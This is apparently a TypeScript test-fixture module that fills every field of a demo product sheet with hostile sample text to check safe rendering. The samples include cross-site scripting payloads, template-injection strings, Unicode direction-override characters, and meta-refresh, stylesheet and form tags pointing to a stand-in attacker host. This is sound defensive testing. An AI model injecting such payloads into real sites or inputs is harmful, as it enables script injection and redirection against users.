import { LanguageMap, languages } from '#domain/language/language.ts'
import type { ProductContent } from '#domain/product/product.ts'
import { identityProducts } from '#build/demo/products/identity.ts'

/** Texts that would run, load or lead somewhere if anything took them for more than text. */
export const markup = (attacker: string): string =>
  [
    `<script>window.pwned='script'</script>`,
    `<img src=x onerror="window.pwned='image'">`,
    `<svg onload="window.pwned='svg'"><a href="javascript:window.pwned='link'">x</a></svg>`,
    `<iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${attacker}/refresh"><base href="${attacker}/">`,
    `<style>@import url(${attacker}/style.css);</style><link rel=stylesheet href=${attacker}/link.css>`,
    `<form action="${attacker}/form"><button autofocus onfocus="window.pwned='focus'">x</button></form>`,
    `" autofocus onfocus="window.pwned='attribute'" onmouseover="window.pwned='attribute'" x="`,
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} $t(common:close) {{product}} %s",
    `</title></textarea></script>--><!-- <![CDATA[ ]]> &lt;script&gt; &#60;b&#62;`,
  ].join(' ')

/** Turns the writing round until the paragraph ends, and tries to climb out of whatever holds it. */
export const turnedRound = '\u2069\u2069\u202c\u202c\u202e 1 tekoL :101A'

/** A sheet of which every text, in every language, is the one given. `name` stands before its name, to find it by. */
export const sheetOf = (text: string, name: string): ProductContent => {
  const sheet = replaceTexts(anySheet, text)
  const names = Object.fromEntries(languages.map((language) => [language, `${name} ${text}`]))
  return {
    ipdc: { ...sheet.ipdc, naam: LanguageMap.parse(names), zoektermen: [name, text] },
    local: { ...sheet.local, remarks: text },
  }
}

const [anySheet] = Object.values(identityProducts)

const replaceTexts = (product: ProductContent | undefined, text: string): ProductContent => {
  if (product === undefined) throw new Error('The demo has no products.')
  const all = (): LanguageMap => LanguageMap.parse(Object.fromEntries(languages.map((language) => [language, text])))
  const named = { naam: all(), beschrijving: all() }
  const website = { naam: all(), url: `https://attacker.example/${encodeURIComponent('"><script>')}` }
  return {
    ipdc: {
      ...product.ipdc,
      beschrijving: all(),
      verdereBeschrijving: all(),
      uitzonderingen: all(),
      voorwaarden: [{ ...named, bewijs: all() }],
      procedures: [{ ...named, websites: [website] }],
      kosten: [named],
      regelgeving: [{ naam: all(), url: website.url }],
      websites: [website],
    },
    local: { ...product.local, responsible: `staff:${text}`, backups: [`staff:${text}`], department: text },
  }
}
